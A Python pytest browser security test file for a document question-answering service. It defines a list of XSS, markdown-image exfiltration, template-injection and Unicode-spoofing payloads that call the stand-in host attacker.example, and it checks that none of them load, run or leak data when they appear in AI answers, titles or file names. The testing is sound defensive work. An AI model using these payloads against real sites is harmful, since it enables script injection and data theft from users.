"""Hostile answers, titles, file names, headings and quotes in a real browser: nothing loads, nothing runs.

Every name but the service's own leads to a server that counts who asks, so a request that left the page would be seen.
"""

from __future__ import annotations

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from api.settings import Settings
from tests.api.server import serving, upload, wait_until_ready
from tests.browser.chromium import Chromium
from tests.doubles.scripted_gateway import Scene, ScriptedGateway

if TYPE_CHECKING:
    from collections.abc import Iterator

PAYLOADS = (
    "<img src=http://attacker.example/img onerror=window.pwned=1>",
    "<script>window.pwned=1;fetch('http://attacker.example/script')</script>",
    "<svg onload=window.pwned=1><image href=http://attacker.example/svg /></svg>",
    "<iframe src=http://attacker.example/frame></iframe><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<link rel=stylesheet href=http://attacker.example/style><style>@import 'http://attacker.example/import'</style>",
    "<object data=http://attacker.example/object></object><embed src=http://attacker.example/embed>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/refresh'><base href=http://attacker.example/>",
    "<video src=http://attacker.example/video autoplay></video><audio src=http://attacker.example/audio autoplay>",
    "<form action=http://attacker.example/form><input autofocus onfocus=window.pwned=1></form>",
    "<a href='javascript:window.pwned=1' ping=http://attacker.example/ping>press</a>",
    "![picture](http://attacker.example/markdown?q=secret)",
    "![picture][leak] and [press](javascript:window.pwned=1)\n\n[leak]: http://attacker.example/reference?q=secret",
    "</textarea></title><script>alert(1)</script>",
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} {% import os %}",
    "\u202egpj.exe\u202c \U000e0049\U000e0067\U000e006e",
)
FACT = "The museum opens at ten o'clock on Sundays."
QUESTION = "When does the museum open on Sundays?"


class Outside(ThreadingHTTPServer):
    """Every other site there is. Counts who asks for what."""

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)
        threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True).start()

    @property
    def port(self) -> int:
        """Where it listens."""
        return int(self.server_address[1])


class _Handler(BaseHTTPRequestHandler):
    server: Outside

    def do_GET(self) -> None:
        self.server.asked.append(f"{self.headers.get('Host')}{self.path}")
        body = b"<!doctype html><title>plain</title><p>plain"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the name that the server looks for.

    def log_message(self, *_: object) -> None:
        """Silence."""


@pytest.fixture
def outside() -> Iterator[Outside]:
    """The sites that nothing may reach."""
    server = Outside()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def browser(program: str, outside: Outside) -> Iterator[Chromium]:
    """A browser for which every name leads to the sites that count."""
    rules = (
        f"--host-resolver-rules=MAP *.example 127.0.0.1:{outside.port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    )
    with Chromium(program, [rules]) as opened:
        yield opened


@pytest.fixture(scope="module")
def gateway() -> Iterator[ScriptedGateway]:
    """A model that answers with the truth and with every payload."""

    def says(sent: dict[str, Any]) -> str:
        key = re.search(r'<source key="(\w+)"', sent["messages"][0]["content"])
        marker = f"[{key[1]}]" if key else ""
        return f"{FACT} {marker}\n\n" + "\n\n".join(f"See {each} {marker}." for each in PAYLOADS)

    with ScriptedGateway([Scene.answer(says)]) as server:
        yield server


@pytest.fixture(scope="module")
def address(
    program: str, gateway: ScriptedGateway, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """A service whose documents, titles and file names are hostile, and that shows what no source carries."""
    assert program
    settings = Settings(  # type: ignore[call-arg]
        _env_file=None,
        data=tmp_path_factory.mktemp("hostile"),
        gateway_url=gateway.url,
        answer_cache_hours=0,
        unsupported="flag",
        mark_sources="off",
    )
    with serving(settings) as url, httpx.Client(base_url=url, timeout=60) as client:
        wait_until_ready(client)
        heads = "\n\n".join(f"## {each}\n\n{FACT} {each}" for each in PAYLOADS)
        first = upload(client, f"# {PAYLOADS[0]}\n\n{FACT}\n\n{heads}\n", filename=f"{PAYLOADS[0]}.md")
        assert first["status"] == "ready", first
        for number, payload in enumerate(PAYLOADS):
            text = f"{FACT} Room {number} is beside it. {payload}"
            response = client.post("/v1/documents", json={"text": text, "title": payload[:500], "wait": True})
            assert response.status_code == 201, response.text
        yield url


def nothing_happened(browser: Chromium, outside: Outside, address: str) -> None:
    """No request left for another origin, and no script of a document ran."""
    foreign = [url for url in browser.requests() if not url.startswith((address, "data:", "blob:", "about:"))]
    assert foreign == []
    assert outside.asked == []
    assert browser.dialogs() == []
    assert browser.run("typeof window.pwned") == "undefined"


def test_hostile_answers_titles_and_names_load_nothing(
    browser: Chromium, outside: Outside, address: str
) -> None:
    """The documents are listed, a hostile answer streams in, its footnotes are opened: zero requests elsewhere."""
    browser.open(address)
    browser.wait_for("document.querySelectorAll('[data-testid=document]').length > 10")
    browser.run(f"document.querySelector('[data-testid=question]').value = {json.dumps(QUESTION)}")
    browser.run("document.querySelector('[data-testid=ask-submit]').click()")
    browser.wait_for("document.querySelector('[data-testid=footnote]')")
    browser.wait_for("document.body.innerText.includes('attacker.example/markdown')")
    for number in range(min(3, browser.run("document.querySelectorAll('[data-testid=footnote]').length"))):
        browser.run(f"document.querySelectorAll('[data-testid=footnote]')[{number}].click()")
        browser.wait_for("document.querySelector('#source .source-text')")
        browser.wait_for("!document.querySelector('#source').innerText.includes('Reading the stored text')")
    time.sleep(0.5)

    shown = browser.shown()
    assert "<img src=http://attacker.example/img" in shown
    assert "![picture](http://attacker.example/markdown" in shown
    # The page's own: no element of a document's came into being.
    made = "document.querySelectorAll('iframe,object,embed,video,audio,base,meta[http-equiv],form[action],a[ping]')"
    assert browser.run(f"{made}.length") == 0
    assert (
        browser.run("[...document.querySelectorAll('a')].filter(a => a.protocol === 'javascript:').length")
        == 0
    )
    images = browser.run("[...document.images].map(each => each.src)")
    assert all(each.startswith((address, "blob:")) for each in images)
    assert not re.search("[\u202a-\u202e\U000e0000-\U000e007f]", browser.run("document.body.textContent"))
    nothing_happened(browser, outside, address)


def test_the_search_and_the_list_of_warnings_load_nothing(
    browser: Chromium, outside: Outside, address: str
) -> None:
    """What was hidden in a document is said beside it."""
    browser.open(address)
    browser.wait_for("document.querySelector('[data-testid=document-warnings]')")

    warnings = browser.run("document.querySelector('[data-testid=document-warnings]').textContent")
    assert "never shown" in warnings
    nothing_happened(browser, outside, address)


def test_the_policy_holds_where_the_page_would_not(browser: Chromium, outside: Outside, address: str) -> None:
    """Even markup that got into the page could load and run nothing: the browser refuses by the policy."""
    browser.open(address)
    browser.wait_for("document.querySelector('[data-testid=question]')")
    browser.run(
        "window.refused = []; addEventListener('securitypolicyviolation', e => refused.push(e.violatedDirective))"
    )
    # No policy keeps a page from being led elsewhere by a refresh: that no markup gets in at all is tested above.
    for payload in (each for each in PAYLOADS[:10] if "http-equiv" not in each):
        browser.run(f"document.body.insertAdjacentHTML('beforeend', {json.dumps(payload)})")
    inline = "Object.assign(document.createElement('script'), {textContent: 'window.pwned = 1'})"
    browser.run(f"void document.body.append({inline})")
    remote = "Object.assign(document.createElement('script'), {src: 'http://attacker.example/remote'})"
    browser.run(f"void document.body.append({remote})")
    browser.run("document.querySelector('a[ping]').click()")
    browser.run("fetch('http://attacker.example/fetch').catch(() => 0)")
    browser.run("navigator.sendBeacon('http://attacker.example/beacon')")
    browser.run("document.body.style.backgroundImage = 'url(http://attacker.example/background)'")
    time.sleep(1)

    refused = " ".join(browser.run("refused"))
    for directive in ("img-src", "script-src", "style-src", "frame-src", "connect-src"):
        assert directive in refused, refused
    assert outside.asked == []
    assert browser.run("typeof window.pwned") == "undefined"


def test_an_uploaded_page_is_saved_and_not_shown(browser: Chromium, outside: Outside, address: str) -> None:
    """Opened by its address, an original is a download; its text is JSON that no browser renders as a page."""
    with httpx.Client(base_url=address) as client:
        page = f"<!doctype html><title>x</title>{''.join(PAYLOADS[:5])}<p>{FACT}"
        document = upload(client, page, filename="page.html")
    browser.call("Page.setDownloadBehavior", {"behavior": "deny"})

    assert browser.open(f"{address}/v1/documents/{document['id']}/original") == "net::ERR_ABORTED"
    browser.open(f"{address}/v1/documents/{document['id']}/text")
    browser.wait_for("document.contentType === 'application/json'")

    time.sleep(0.5)
    nothing_happened(browser, outside, address)


def test_the_counting_works(browser: Chromium, outside: Outside) -> None:
    """Without the service's policy the same markup does ask: these tests can fail."""
    browser.open("http://plain.example/")
    browser.wait_for("document.title === 'plain'")
    browser.run(f"document.body.insertAdjacentHTML('beforeend', {json.dumps(PAYLOADS[0])})")
    deadline = time.monotonic() + 10
    while not any("attacker.example/img" in each for each in outside.asked) and time.monotonic() < deadline:
        time.sleep(0.05)

    assert any("attacker.example/img" in each for each in outside.asked)
    browser.wait_for("window.pwned === 1")
